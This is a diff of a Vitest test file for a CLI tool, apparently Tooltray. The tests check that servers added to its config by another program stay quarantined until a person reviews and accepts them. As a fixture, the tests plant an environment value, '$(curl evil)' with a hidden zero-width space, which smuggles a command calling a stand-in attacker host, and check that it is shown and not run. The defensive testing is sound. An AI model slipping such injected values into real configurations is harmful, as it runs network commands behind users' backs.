@@ -3,14 +3,16 @@ import { expect, test } from 'vitest';
 import { CliHome, entries } from '../cli-home.ts';
 
 const servers = async (home: CliHome): Promise<unknown> =>
-  ((await home.json('list')).data['servers'] as { name: string; state: string }[]).map(({ name }) => name);
+  ((await home.json('list')).data['servers'] as { name: string; state: string }[]).map(({ name, state }) =>
+    state === 'disabled' ? `(${name})` : name,
+  );
 
 test('an edit of the config file by another program is told, shown whole, and used once it is approved', async () => {
   await using home = new CliHome({ echo: entries.echo });
   expect(await servers(home)).toEqual(['echo']);
   const env = { API_TOKEN: '$(curl evil)\u200b' };
   home.writeConfig({ servers: { echo: entries.echo, evil: { ...entries.echo, env } } });
-  expect(await servers(home)).toEqual(['echo']);
+  expect(await servers(home)).toEqual(['echo', '(evil)']);
   const ill = await home.json('doctor');
   expect(ill.code).toBe(1);
   const { proposals } = (await home.json('proposals')).data as { proposals: { id: string }[] };
@@ -19,7 +21,7 @@ test('an edit of the config file by another program is told, shown whole, and us
   const shown = (await home.run('proposals')).stdout;
   expect(shown).toContain('+ Variable API_TOKEN: "$(curl evil)⟨U+200B⟩"');
   expect(shown).toContain('written into the config file, not by Tooltray');
-  expect((await home.run('enable', 'evil')).stderr).toContain(`tooltray approve ${id}`);
+  expect((await home.run('enable', 'evil')).stderr).toContain('tooltray review evil');
   const approved = await home.run('approve', id);
   expect(approved.code).toBe(0);
   expect(await servers(home)).toEqual(['echo', 'evil']);
@@ -44,13 +46,24 @@ test('a file named by --config is used as it stands, edited by whomever', async 
   expect(await named()).toEqual(['echo', 'more']);
 });
 
-test('enable lets a server out of quarantine', async () => {
+test('enable lets no server out of a review; review shows what it would run and takes the word on that', async () => {
   await using home = new CliHome({ held: { ...entries.echo, quarantined: true } });
   expect((await home.json('list')).data['servers']).toMatchObject([{ name: 'held', state: 'disabled' }]);
-  expect((await home.run('enable', 'held')).code).toBe(0);
-  expect(JSON.parse(home.configText())).toEqual({
-    servers: { held: { ...entries.echo, quarantined: false, enabled: true } },
+  const refused = await home.run('enable', 'held');
+  expect(refused.code).not.toBe(0);
+  expect(refused.stderr).toMatch(/held waits for the review of the person.*tooltray review held/s);
+  const { stdout } = await home.run('review');
+  expect(stdout).toMatch(/^([0-9a-f]{6}) {2}held: in review: not started\n {4}Command: /);
+  expect(stdout).toContain('on this computer, with your rights');
+  expect((await home.run('review', 'held', '--accept', '000000')).stderr).toMatch(/not what was shown/);
+  const id = stdout.slice(0, 6);
+  expect((await home.run('review', '--accept', id)).stderr).toMatch(/One word about one server/);
+  expect(await home.run('review', 'held', '--accept', id)).toMatchObject({
+    code: 0,
+    stdout: 'Accepted the server "held".\n',
   });
+  expect(JSON.parse(home.configText())).toEqual({ servers: { held: { ...entries.echo, quarantined: false } } });
+  expect((await home.run('review')).stdout).toBe('No server waits for your review.\n');
 });
 
 test('approve takes several ids, tells of each, and one that is gone keeps no other from being decided', async () => {
